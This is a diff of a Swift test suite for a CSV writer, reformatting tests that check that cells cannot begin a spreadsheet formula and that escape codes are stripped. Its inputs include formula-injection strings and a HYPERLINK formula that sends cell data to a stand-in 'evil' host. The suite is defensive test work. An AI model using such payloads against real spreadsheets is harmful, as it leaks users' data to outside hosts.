@@ -5,7 +5,8 @@ import Testing
 
 @Suite struct CSVRowTests {
   @Test(arguments: [
-    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", " =1", "\r\n=1", "\u{FF1D}1", "=HYPERLINK(\"http://evil/?\"&A1)", "-",
+    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", " =1", "\r\n=1", "\u{FF1D}1",
+    "=HYPERLINK(\"http://evil/?\"&A1)", "-",
   ])
   func noCellBeginsAFormula(_ text: String) {
     let cell = CSVRow([text]).text.drop { $0 == "\"" }
@@ -19,7 +20,8 @@ import Testing
   }
 
   @Test func cellsAreQuotedAndWithoutEscapeCodes() {
-    #expect(CSVRow(["a,b", "say \"hi\"", "two\r\nlines", "\u{1B}[31mred"]).text
-      == "\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",red")
+    #expect(
+      CSVRow(["a,b", "say \"hi\"", "two\r\nlines", "\u{1B}[31mred"]).text
+        == "\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",red")
   }
 }
